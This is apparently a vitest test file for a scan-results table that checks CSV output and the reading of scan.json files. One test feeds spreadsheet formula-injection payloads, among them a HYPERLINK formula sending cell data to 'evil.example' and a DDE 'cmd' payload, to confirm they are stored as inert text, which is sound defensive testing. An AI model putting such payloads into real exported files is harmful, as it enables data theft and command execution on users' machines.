import { describe, expect, it } from 'vitest';
import type { PointResult } from '../../../src/results/scan/point-result.ts';
import { readScanFile } from '../../../src/results/scan/scan-files.ts';
import { scanTable, tableAsCsv } from '../../../src/results/scan/table.ts';

function point(name: string, inputs: Partial<PointResult['inputs']>, limit?: number): PointResult {
  return {
    point: name,
    status: limit === undefined ? 'failed' : 'finished',
    exitCode: limit === undefined ? 1 : 0,
    inputs: { datasets: [], variables: {}, ...inputs },
    metrics:
      limit === undefined ? [] : [{ name: 'limit', label: 'Limit', unit: 'fb', value: limit }],
  };
}

describe('the table of a scan', () => {
  it('has what differs between the points, and what came of them', () => {
    const points = [
      point('1', { datasets: ['a:x'], parameters: { mass: '300.0', tune: 'A' } }, 1.5),
      point('2', { datasets: ['a:y', 'a:z'], parameters: { mass: '500', tune: 'A' } }),
      point('3', { datasets: ['a:y'], variables: { CHANNEL: 'ee, "tight"' } }, 0.25),
    ];
    expect(tableAsCsv(scanTable(points))).toBe(
      [
        'point,dataset,mass,tune,CHANNEL,status,Limit [fb]',
        '1,a:x,300.0,A,,finished,1.5',
        '2,a:y a:z,500,A,,failed (exit code 1),',
        '3,a:y,,,"ee, ""tight""",finished,0.25',
        '',
      ].join('\r\n'),
    );
  });
});

describe('a cell of scan.csv', () => {
  const csvOf = (value: string) =>
    tableAsCsv(
      scanTable([
        point('1', { parameters: { tune: value } }, 1),
        point('2', { parameters: { tune: 'B' } }, 2),
      ]),
    ).split('\r\n')[1];

  it.each([
    '=HYPERLINK("https://evil.example?"&A1)',
    '+1+cmd|"/C calc"!A0',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '＝1',
    '-',
  ])('holds %j as a text, no formula', (value) => {
    expect(csvOf(value)).toMatch(/^1,"?'/);
  });

  it.each(['-5', '+5', '-1e-3', '.5', '-Infinity', '300.0', 'a=b', 'A'])(
    'holds %s as it is',
    (value) => {
      expect(csvOf(value)).toBe(`1,${value},finished,1`);
    },
  );
});

describe('a scan.json from elsewhere', () => {
  it('is read as far as it is needed for comparison', () => {
    const [first] = [point('1', { parameters: { mass: '300' } }, 1.5)];
    expect(readScanFile(JSON.stringify([{ ...first, more: true }]))).toEqual([
      { inputs: first.inputs, metrics: first.metrics },
    ]);
  });

  it.each(['', '{}', '[1]', '[{"inputs":{},"metrics":[]}]', '[{"inputs":null,"metrics":{}}]'])(
    'is none when it is %j',
    (text) => {
      expect(readScanFile(text)).toBeUndefined();
    },
  );
});
